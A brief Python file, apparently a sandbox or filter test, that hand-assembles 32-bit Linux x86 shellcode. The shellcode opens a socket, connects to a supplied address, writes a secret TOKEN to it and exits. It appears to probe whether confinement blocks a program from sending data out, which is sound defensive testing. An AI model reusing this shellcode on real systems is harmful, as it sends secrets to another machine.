"""Run a 32-bit program of a few bytes: other numbers, another machine to a filter."""

import struct

from _machine import attempt_program
from _way import TOKEN


def code(data):
    """Connect, write, exit."""
    little = struct.Struct('<I').pack
    return (b'\xb8' + little(359) + b'\xbb' + little(2) + b'\xb9' + little(1) + b'\x31\xd2\xcd\x80'
            b'\x89\xc3' b'\xb8' + little(362) + b'\xb9' + little(data) + b'\xba' + little(16)
            + b'\xcd\x80'
            b'\xb8' + little(4) + b'\xb9' + little(data + 16) + b'\xba' + little(len(TOKEN))
            + b'\xcd\x80'
            b'\x89\xc3\x29\xd3' b'\xb8' + little(1) + b'\xcd\x80')


attempt_program(32, code)
